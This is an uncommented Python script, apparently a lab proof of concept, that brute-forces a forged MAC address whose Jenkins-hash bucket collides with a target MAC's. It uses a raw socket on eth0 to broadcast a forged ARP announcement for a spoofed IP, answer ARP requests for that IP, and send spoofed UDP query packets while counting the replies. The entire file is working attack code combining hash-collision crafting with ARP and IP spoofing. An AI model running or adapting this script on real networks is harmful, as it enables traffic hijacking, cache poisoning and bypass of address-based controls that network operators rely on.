import sys; sys.path.insert(0, __import__('os').path.dirname(__file__))
from raw import *; import time,select
M32=0xffffffff
def rol(x,n): return ((x<<n)|(x>>(32-n)))&M32
def jhash(m):
    st=(0xdeadbeef+6+0x70726561)&M32
    a=(st+int.from_bytes(m[:4],'little'))&M32; b=(st+int.from_bytes(m[4:],'little'))&M32; c=st
    c=((c^b)-rol(b,14))&M32; a=((a^c)-rol(c,11))&M32; b=((b^a)-rol(a,25))&M32
    c=((c^b)-rol(b,16))&M32; a=((a^c)-rol(c,4))&M32; b=((b^a)-rol(a,14))&M32
    return ((c^b)-rol(b,24))&M32
me=mac('02:00:00:00:00:11'); want=jhash(me)>>12
t=time.time(); n=0
while True:
    cand=bytes([2,0xaa])+n.to_bytes(4,'big'); n+=1
    if jhash(cand)>>12==want: break
fake=cand.hex(':'); print('fake',fake,'found after',n,'tries',round(time.time()-t,1),'s',flush=True)
box=sys.argv[1]; mode=sys.argv[2]; s=sock()
import fcntl
SOL_PACKET=263; s.setsockopt(SOL_PACKET,1,struct.pack('IHH8s',2 if False else __import__('socket').if_nametoindex('eth0'),1,0,b''))
SRC='10.77.0.99'
arp=mac('ff:ff:ff:ff:ff:ff')+cand+struct.pack('!HHHBBH',0x0806,1,0x0800,6,4,1)+cand+socket.inet_aton(SRC)+bytes(6)+socket.inet_aton('10.77.0.1')
def pump(secs):
    out=[]; e=time.time()+secs
    while time.time()<e:
        r,_,_=select.select([s],[],[],0.02)
        if r:
            f=s.recv(2000)
            if f[12:14]==b'\x08\x06' and f[20:22]==b'\0\1' and f[38:42]==socket.inet_aton(SRC):
                s.send(f[6:12]+cand+struct.pack('!HHHBBH',0x0806,1,0x0800,6,4,2)+cand+socket.inet_aton(SRC)+f[22:28]+f[28:32])
            elif f[12:14]==b'\x08\0' and f[30:34]==socket.inet_aton(SRC): out.append(f)
    return out
s.send(arp); pump(0.5)
got=0
for i in range(10):
    sp=40000+i
    s.send(eth(box,me.hex(':'),ip4(SRC,'198.51.100.11',17,udp(SRC,sp,'198.51.100.11',6005,b'query %d'%i))))
    for f in pump(0.2):
        if f[23]==17: got+=1; print('answer',f[42:42+16])
        else: print('proto',f[23],f[34:36].hex())
print('answers',got)
